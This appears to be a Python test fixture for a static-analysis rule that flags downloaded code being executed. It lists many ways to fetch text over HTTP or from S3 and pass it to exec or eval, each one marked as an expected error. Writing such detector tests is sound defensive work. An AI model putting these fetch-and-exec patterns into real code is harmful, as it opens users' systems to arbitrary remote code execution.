# Answers of servers, whatever sends the question: other verbs, clients, sessions and stores.
import asyncio
import json
import urllib.request
from urllib.request import Request, urlopen

import aiohttp
import boto3
import httpx
import requests
import urllib3
from aiohttp import ClientSession
from requests import post

URL = "https://code.example-labs.io/step"


# %%
exec(requests.post(URL, json={"step": 1}).text)  # expect: downloaded-code-executed=error
exec(post(URL).content)  # expect: downloaded-code-executed=error
eval(requests.put(URL, data=b"").json()["rule"])  # expect: downloaded-code-executed=error
exec(requests.request("POST", URL).text)  # expect: downloaded-code-executed=error
exec(requests.patch(url=URL).content.decode())  # expect: downloaded-code-executed=error
exec(b"".join(requests.get(URL, stream=True).iter_content(8192)))  # expect: downloaded-code-executed=error


# %%
def with_a_session(name):
    session = requests.Session()
    session.headers["Accept"] = "text/plain"
    answer = session.post(URL, json={"name": name}, timeout=10)
    answer.raise_for_status()
    lines = answer.text.splitlines()
    exec("\n".join(lines))  # expect: downloaded-code-executed=error


def in_a_context():
    with requests.Session() as session:
        with session.get(URL, stream=True) as answer:
            for line in answer.iter_lines():
                exec(line)  # expect: downloaded-code-executed=error


# %%
def by_httpx():
    with httpx.Client() as client:
        code = client.post(URL, json={}).text
    exec(code)  # expect: downloaded-code-executed=error
    exec(httpx.request("GET", URL).text)  # expect: downloaded-code-executed=error
    with httpx.stream("GET", URL) as answer:
        exec(answer.read())  # expect: downloaded-code-executed=error
    with httpx.stream("GET", URL) as answer:
        for text in answer.iter_text():
            exec(text)  # expect: downloaded-code-executed=error


async def by_httpx_later():
    async with httpx.AsyncClient() as client:
        answer = await client.put(URL)
        exec(answer.text)  # expect: downloaded-code-executed=error
        async with client.stream("POST", URL) as streamed:
            exec(await streamed.aread())  # expect: downloaded-code-executed=error
            async for line in streamed.aiter_lines():
                exec(line)  # expect: downloaded-code-executed=error


# %%
async def by_aiohttp():
    async with aiohttp.ClientSession() as session:
        async with session.get(URL) as answer:
            exec(await answer.text())  # expect: downloaded-code-executed=error
        async with session.post(URL, json={}) as answer:
            found = await answer.json()
            eval(found["rule"])  # expect: downloaded-code-executed=error
    async with aiohttp.request("GET", URL) as answer:
        exec(await answer.read())  # expect: downloaded-code-executed=error


async def fetched(session: ClientSession, url):
    async with session.get(url) as answer:
        return await answer.text()


async def by_a_helper():
    async with ClientSession() as session:
        exec(await fetched(session, URL))  # expect: downloaded-code-executed=error


# %%
def stored(bucket, key):
    store = boto3.client("s3")
    answer = store.get_object(Bucket=bucket, Key=key)
    exec(answer["Body"].read())  # expect: downloaded-code-executed=error
    text = answer["Body"].read().decode("utf-8")
    exec(compile(text, key, "exec"))  # expect: downloaded-code-executed=error
    for line in answer["Body"].iter_lines():
        exec(line)  # expect: downloaded-code-executed=error


def as_a_resource(bucket, key):
    body = boto3.resource("s3").Object(bucket, key).get()["Body"]
    eval(json.loads(body.read())["rule"])  # expect: downloaded-code-executed=error


class Store:
    def __init__(self):
        self.client = boto3.client("s3")

    def read(self, key):
        answer = self.client.get_object(Bucket="code", Key=key)
        return answer["Body"].read()

    def run(self, key):
        exec(self.read(key), {})  # expect: downloaded-code-executed=error


# %%
def by_pools():
    exec(urllib3.PoolManager().request("GET", URL).data)  # expect: downloaded-code-executed=error
    opener = urllib.request.build_opener()
    exec(opener.open(URL).read())  # expect: downloaded-code-executed=error
    exec(urlopen(Request(URL, headers={"Accept": "text/plain"})).read())  # expect: downloaded-code-executed=error


# %%
class Client:
    """Asks a service for code."""

    def __init__(self, base):
        self.base = base
        self.session = requests.Session()

    def ask(self, path, **options):
        answer = self.session.post(f"{self.base}/{path}", **options)
        return answer.json()

    def step(self):
        code = self.ask("step", json={})["code"]
        exec(code)  # expect: downloaded-code-executed=error


# %%
def run(code):
    exec(code)  # expect: downloaded-code-executed=error


def answered(url):
    try:
        return requests.post(url).text
    except requests.RequestException:
        return "pass"


run(answered(URL))
asyncio.run(by_aiohttp())


# %%
async def asked(session, path):
    async with session.get(f"{URL}/{path}") as answer:
        return await answer.json()


async def run_asked():
    async with aiohttp.ClientSession() as opened:
        found = await asked(opened, "rule")
    eval(found["rule"])  # expect: downloaded-code-executed=error


def first_of(client, path):
    return client.post(f"{URL}/{path}").text.splitlines()[0]


def run_first():
    exec(first_of(requests.Session(), "first"))  # expect: downloaded-code-executed=error


# %%
def parsed_first():
    eval(json.load(urlopen(URL))["rule"])  # expect: downloaded-code-executed=error
    rules = json.loads(urlopen(URL).read().decode("utf-8"))
    for rule in rules["rules"]:
        eval(rule)  # expect: downloaded-code-executed=error


async def gathered(urls):
    async with ClientSession() as session:
        for text in await asyncio.gather(*(fetched(session, url) for url in urls)):
            exec(text)  # expect: downloaded-code-executed=error


def listed():
    answers = [requests.post(URL, json={"n": n}) for n in range(3)]
    exec("\n".join(answer.text for answer in answers))  # expect: downloaded-code-executed=error


def of_a_client(client: httpx.Client):
    exec(client.get(URL).text)  # expect: downloaded-code-executed=error


async def of_another(client: httpx.AsyncClient, http: ClientSession):
    answer = await client.post(URL)
    exec(answer.text)  # expect: downloaded-code-executed=error
    async with http.put(URL) as answer:
        exec(await answer.text())  # expect: downloaded-code-executed=error
